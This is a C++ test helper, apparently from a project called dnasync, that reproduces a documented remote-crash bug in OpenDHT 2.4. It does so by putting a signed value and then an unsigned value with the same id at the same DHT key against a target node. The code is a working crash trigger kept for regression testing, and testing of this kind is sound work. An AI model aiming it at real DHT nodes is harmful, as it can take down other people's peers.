// Test helper: the remote-crash attack of ../shared/notes/opendht-2.4-facts.md (crash bug 1),
// played with a stock OpenDHT client (dht::DhtRunner with an RSA identity).
#include "dht/dht.h"

#include <opendht/dhtrunner.h>

#include <chrono>
#include <future>
#include <string>

extern "C" int tu_attack(const char *target_host_port, int *signed_ok, int *unsigned_ok);

// Put an OpenDHT-signed value, then an unsigned one with the same id at the same key, for each
// of several types (a dnasync type, type 0, an unused type). Returns 0 when it ran.
extern "C" int tu_attack(const char *target, int *signed_ok, int *unsigned_ok)
{
    try {
        dht::DhtRunner r;
        dht::DhtRunner::Config cfg;
        cfg.dht_config.node_config.network = DNASYNC_DHT_NETWORK_ID;
        cfg.dht_config.node_config.max_peer_req_per_sec = -1;
        cfg.dht_config.id = dht::crypto::generateIdentity("attacker", {}, 2048);
        cfg.threaded = true;
        r.run("127.0.0.1", "", "0", cfg);
        r.bootstrap(target);
        for (int i = 0; i < 50 && r.getNodesStats(AF_INET).good_nodes == 0; i++)
            std::this_thread::sleep_for(std::chrono::milliseconds(100));
        *signed_ok = 0;
        *unsigned_ok = 0;
        const uint16_t types[] = {DNASYNC_DHT_TYPE_MESSAGE, 0, 4, 0x7777};
        uint64_t vid = 0x1234567800000000ull;
        for (auto t : types) {
            auto key = dht::InfoHash::get("dnasync/attack/" + std::to_string(t));
            auto v = std::make_shared<dht::Value>(t, (const uint8_t *)"signed", 6, ++vid);
            std::promise<bool> p1;
            r.putSigned(key, v, [&](bool ok) { p1.set_value(ok); });
            auto f1 = p1.get_future();
            if (f1.wait_for(std::chrono::seconds(10)) == std::future_status::ready && f1.get())
                (*signed_ok)++;
            auto u = std::make_shared<dht::Value>(t, (const uint8_t *)"unsigned", 8, vid);
            std::promise<bool> p2;
            r.put(key, u, [&](bool ok) { p2.set_value(ok); });
            auto f2 = p2.get_future();
            if (f2.wait_for(std::chrono::seconds(10)) == std::future_status::ready && f2.get())
                (*unsigned_ok)++;
        }
        r.shutdown({}, true);
        r.join();
        return 0;
    } catch (const std::exception &) {
        return -1;
    }
}
